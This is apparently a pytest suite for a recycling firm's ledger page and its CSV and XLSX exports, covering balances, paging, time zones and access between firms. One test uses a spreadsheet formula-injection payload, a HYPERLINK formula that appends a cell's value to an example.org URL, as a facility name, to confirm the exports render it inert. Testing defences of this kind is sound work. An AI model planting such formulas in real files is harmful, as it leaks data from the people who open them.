"""The ledger's page and files: one firm's own lines, balances that follow, days of the place, nothing left unsaid."""

import csv
import io
import re
from datetime import timedelta

import fastexcel
import httpx
import pytest
from litestar import Litestar

from app.words import LANGUAGES
from foundation.registry import register_facility
from tests.conftest import BASE, PET, Firm, World
from tests.pagework import said
from tests.test_capture import accepted
from tests.test_daybook import HDPE, second_site
from tests.test_pages_holds import as_person
from traceability import composing
from traceability.history.daybook import PAGE
from traceability.identifiers import lot_uri, new_token

KG = 1_000


async def stocked(world: World, firm: Firm) -> tuple[str, str]:
    """12 kg of PET and 3.5 kg of HDPE."""
    return await world.stock(firm, 12 * KG), await world.stock(firm, 3_500, "flake", HDPE)


async def test_a_firm_reads_its_lines_with_balances_and_who_recorded_them(app: Litestar, world: World) -> None:
    firm, other = await world.firm("recycler"), await world.firm("recycler")
    mine, _ = await stocked(world, firm)
    theirs, _ = await stocked(world, other)
    async with as_person(app, firm) as browser:
        page = await browser.open("/ledger")
        text = said(page)
        assert "Opening stock" in text
        assert "Person of recycler" in text
        assert "15.5 kg" in text
        assert "All lines together give the balances" in text
        assert mine[-6:] in text
        assert theirs[-6:] not in text
        assert 'href="/ledger"' in await browser.open("/")
        narrowed = said(await browser.open("/ledger", material=HDPE))
        assert "3.5 kg" in narrowed
        assert mine[-6:] not in narrowed
        wrong = await browser.client.get("/ledger", params={"from": "soon", "facility": "999999"})
        assert wrong.status_code == 400
        assert wrong.text.count('class="error"') == 2
        turned = await browser.client.get("/ledger", params={"from": "2026-05-02", "to": "2026-05-01"})
        assert turned.status_code == 400


async def test_the_page_turns_and_the_file_holds_every_page(app: Litestar, world: World) -> None:
    firm = await world.firm("recycler")
    makings = [composing.Making(lot_uri(BASE, new_token()), KG, PET, "bale", "post") for _ in range(PAGE + 3)]
    assert (await world.capture(firm, *(composing.opening(world.at(firm), each) for each in makings))).success
    async with as_person(app, firm) as browser:
        first = await browser.open("/ledger")
        following = re.search(r'rel="next" href="([^"]+)"', first)
        assert following
        second = await browser.open(following[1].replace("&amp;", "&"))
        assert second.count("<td") == 9 * 3 + 2 * 4
        assert "First page" in second
        assert f"{PAGE + 3} kg" in said(second)
        answer = await browser.client.get("/ledger/export/csv")
        rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
        assert [row["balance_kg"] for row in rows] == [str(each + 1) for each in range(PAGE + 3)]
        assert rows[0]["recorded_by"].startswith("Person of")
        narrow = await browser.client.get("/ledger/export/csv", params={"material": HDPE})
        assert narrow.status_code == 400  # the firm never held any
        assert (await browser.client.get("/ledger/export/pdf")).status_code == 404


async def test_a_file_holds_no_formula(app: Litestar, world: World) -> None:
    """A name that a spreadsheet would run is a text in both kinds of file."""
    firm = await world.firm("recycler")
    name = '=HYPERLINK("http://example.org/?"&A1)'
    async with world.process.database.begin(firm.actor.organisation_id) as session:
        place = await register_facility(
            session, organisation_id=firm.actor.organisation_id, uri=lot_uri(BASE, new_token()), name=name,
            country="JP", time_zone="Asia/Tokyo", moment=world.clock(),
        )  # fmt: skip
    at = composing.At(world.clock(), place.uri, firm.zone)
    making = composing.Making(lot_uri(BASE, new_token()), 5 * KG, PET, "bale", "post")
    assert (await world.capture(firm, composing.opening(at, making))).success
    async with as_person(app, firm) as browser:
        plain = (await browser.client.get("/ledger/export/csv")).content.decode("utf-8-sig")
        (row,) = csv.DictReader(io.StringIO(plain))
        assert row["facility"] == f"'{name}"
        book = (await browser.client.get("/ledger/export/xlsx")).content
        sheet = fastexcel.read_excel(book).load_sheet(0).to_polars()
        assert sheet["facility"].to_list() == [name]
        assert sheet["in_kg"].to_list() == [5]


async def test_the_day_is_the_place_s_own(app: Litestar, world: World) -> None:
    """What happened at half past midnight in Tokyo is of that day there, not of the day before in UTC."""
    firm = await world.firm("recycler")
    midnight = world.clock().astimezone(firm.zone).replace(hour=0, minute=30) - timedelta(days=2)
    making = composing.Making(lot_uri(BASE, new_token()), 7 * KG, PET, "bale", "post")
    accepted(await world.capture(firm, composing.opening(composing.At(midnight, firm.facility, firm.zone), making)))
    async with as_person(app, firm) as browser:
        day = midnight.date().isoformat()
        assert "7 kg" in said(await browser.open("/ledger", **{"from": day, "to": day}))
        before = (midnight.date() - timedelta(days=1)).isoformat()
        assert "Nothing moved in this period" in said(await browser.open("/ledger", **{"from": before, "to": before}))


async def test_each_facility_has_its_lines_and_holds_are_left_out_with_their_reason(
    app: Litestar, world: World
) -> None:
    firm = await world.firm("recycler")
    site = await second_site(world, firm)
    await world.stock(firm, 4 * KG)
    await world.stock(site, 9 * KG)
    at = composing.At(world.clock() - timedelta(days=40), firm.facility, firm.zone)
    making = composing.Making(lot_uri(BASE, new_token()), 60 * KG, PET, "bale", "post")
    accepted(await world.capture(firm, composing.opening(at, making)))
    async with as_person(app, firm) as browser:
        everywhere, one = (
            said(await browser.open("/ledger")),
            await browser.open("/ledger", facility=str(site.facility_id)),
        )
        assert "On hold: Reported late 1 60 kg" in everywhere
        assert "Everything recorded 3 73 kg" in everywhere
        assert "On hold" not in said(one)
        assert re.search(r"Closing balance 9 kg", said(one))


async def test_another_firm_s_facility_and_a_visitor_see_nothing(app: Litestar, world: World) -> None:
    firm, other = await world.firm("recycler"), await world.firm("trader")
    await stocked(world, firm)
    async with as_person(app, other) as browser:
        assert (await browser.client.get("/ledger", params={"facility": str(firm.facility_id)})).status_code == 400
        assert "Nothing moved" in said(await browser.open("/ledger"))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url=BASE) as client:
        assert (await client.get("/ledger", headers={"accept": "text/html"})).status_code in {303, 401}
        assert (await client.get("/ledger/export/csv")).status_code == 401


@pytest.mark.parametrize("lang", LANGUAGES)
async def test_it_speaks_every_language(app: Litestar, world: World, lang: str) -> None:
    firm = await world.firm("recycler")
    await stocked(world, firm)
    async with as_person(app, firm) as browser:
        text = said(await browser.open("/ledger", lang=lang))
        assert not re.search(r"\b(?:ledger|common|hold|outcome|reason)\.[a-z_]+", text)
        assert lang == "en" or "Opening balance" not in text
